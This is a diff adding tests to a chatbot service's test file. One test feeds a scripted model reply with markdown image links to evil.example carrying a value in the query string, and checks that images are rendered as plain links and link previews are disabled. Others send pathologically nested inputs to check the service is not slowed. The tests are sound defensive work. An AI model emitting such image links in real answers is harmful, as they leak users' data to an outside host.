@@ -82,6 +82,35 @@ test('what somebody writes to the bot is answered there, in a conversation of th
   expect(new Set(both.map(({ conversationId }) => conversationId)).size).toBe(1);
 });
 
+test('an answer shows no picture and no preview: nobody fetches what a model was led to write', async () => {
+  const pieces = ['![Look](https://evil.example/a?told=4711) !![and](https://evil.example/b) `![code](c)`'];
+  provider.script = { pieces };
+  await service.deliver(service.message('When does the shop close?'));
+  await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
+  provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
+  expect(told()[0]).toContain('[Look](https://evil.example/a?told=4711) [and](https://evil.example/b)');
+  expect(told()[0]).toContain('`![code](c)`');
+  expect(service.sent[0]?.preview).toEqual({ is_disabled: true });
+});
+
+test.each([
+  ['pictures in pictures', `${'!['.repeat(5000)}x${'](u)'.repeat(5000)}`],
+  ['quotes in quotes', '>'.repeat(30_000)],
+  ['marks in marks', `${'*_'.repeat(8000)}a${'_*'.repeat(8000)}`],
+])(
+  '%s, written or answered: nobody is held up',
+  async (_what, slow) => {
+    provider.script = { pieces: [slow] };
+    const began = performance.now();
+    expect(await service.deliver(service.message(slow))).toBe(200);
+    await expect.poll(() => told().length, { timeout: 10_000 }).toBeGreaterThan(1);
+    provider.script = { pieces: ['Until ', 'nine ', '[1].'] };
+    expect(performance.now() - began).toBeLessThan(15_000);
+    expect((await owner.plugin.listMessages({ id: pluginId })).messages[0]?.error).toBeNull();
+  },
+  20_000,
+);
+
 test('the same update sent again is answered once, and a forged one not at all', async () => {
   const update = service.message('When does the shop close?');
   const statuses = await Promise.all(Array.from({ length: 5 }, () => service.deliver(update)));
